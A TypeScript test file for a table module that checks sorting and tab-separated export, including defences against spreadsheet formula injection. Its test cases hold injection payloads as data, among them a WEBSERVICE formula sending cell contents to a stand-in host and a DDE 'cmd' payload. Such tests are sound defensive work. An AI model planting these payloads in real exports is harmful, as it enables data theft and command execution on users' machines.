import { describe, expect, test } from "vitest";
import { type Column, sorted, tsvOf } from "./columns.ts";

interface Row {
  readonly name: string;
  readonly due: number;
}
const columns: readonly Column<Row>[] = [
  { id: "name", words: "番号", text: ({ name }) => name, track: "1fr" },
  { id: "due", words: "期限", text: ({ due }) => String(due), order: ({ due }) => due, track: "1fr" },
];
const rows: readonly Row[] = [
  { name: "J-10", due: 2 },
  { name: "J-2", due: 10 },
];

describe("a table", () => {
  test("sorts numbers inside words as people do, and numbers by their value", () => {
    expect(sorted(rows, columns, { column: "name", down: false }, "ja").map(({ name }) => name)).toEqual([
      "J-2",
      "J-10",
    ]);
    expect(sorted(rows, columns, { column: "due", down: true }, "ja").map(({ name }) => name)).toEqual(["J-2", "J-10"]);
    expect(sorted(rows, columns, undefined, "ja")).toBe(rows);
  });

  test("is copied as lines that a spreadsheet pastes into cells", () => {
    expect(tsvOf(columns, [{ name: "a\tb\nc", due: 1 }])).toBe("番号\t期限\na b c\t1");
  });

  test.each([
    ['=WEBSERVICE("https://elsewhere.example/?"&A1)', "'=WEBSERVICE"],
    ["@SUM(A1)", "'@SUM"],
    ["+cmd|' /C calc'!A0", "'+cmd"],
    ["-1+HYPERLINK(A1)", "'-1+HYPERLINK"],
    ["＝１＋１", "'＝"],
    ["\t =1+1", "'=1"],
    ["-12", "-12"],
    ["+1,200.5", "+1,200.5"],
    ["10 t = 22,000 lb", "10 t ="],
  ])("copies %j so that a spreadsheet shows it and calculates nothing", (name, copied) => {
    expect(
      tsvOf(columns, [{ name, due: 1 }])
        .split("\n")[1]
        ?.startsWith(copied),
    ).toBe(true);
  });
});
